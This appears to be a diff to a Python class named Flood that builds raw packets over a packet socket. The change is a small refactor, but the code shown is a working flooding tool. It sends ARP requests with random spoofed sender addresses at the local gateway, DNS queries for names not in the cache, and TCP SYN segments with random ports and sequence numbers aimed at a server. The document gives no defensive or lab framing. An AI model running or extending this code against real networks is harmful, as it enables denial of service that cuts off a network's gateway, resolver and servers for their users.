@@ -41,7 +41,7 @@ class Flood:
         self.gateway = socket.inet_aton(gateway)
         self.sock = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 0)
         self.sock.bind((name, 0))
-        self.mac = self.sock.getsockname()[4]
+        self.mac: bytes = self.sock.getsockname()[4]
         self.address = self.gateway[:3] + b"\xc8"
         with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as probe:
             probe.connect((gateway, 9))
@@ -78,7 +78,8 @@ class Flood:
     def arp(self, _: int) -> bytes:
         """A question of somebody who is not there."""
         sender = b"\x02" + os.urandom(5) + self.gateway[:3] + bytes([random.randrange(2, 255)])
-        return _BROADCAST + self.mac + _ARP + struct.pack("!HHBBH", 1, 0x0800, 6, 4, 1) + sender + bytes(6) + self.gateway
+        body = struct.pack("!HHBBH", 1, 0x0800, 6, 4, 1) + sender + bytes(6) + self.gateway
+        return _BROADCAST + self.mac + _ARP + body
 
     def dns(self, _: int) -> bytes:
         """A question for a name that the cache does not have."""
@@ -110,7 +111,8 @@ class Flood:
         return self.gateway_mac + self.mac + _IPV4 + packet
 
     def _segment(self, source: bytes) -> bytes:
-        head = struct.pack("!HHIIBBHHH", random.randrange(1024, 65536), 7, random.getrandbits(32), 0, 0x50, ip.SYN, 64240, 0, 0)
+        port, sequence = random.randrange(1024, 65536), random.getrandbits(32)
+        head = struct.pack("!HHIIBBHHH", port, 7, sequence, 0, 0x50, ip.SYN, 64240, 0, 0)
         total = ip.checksum(source + socket.inet_aton(SERVER) + struct.pack("!BBH", 0, ip.TCP, len(head)) + head)
         return head[:16] + total.to_bytes(2, "big") + head[18:]
 
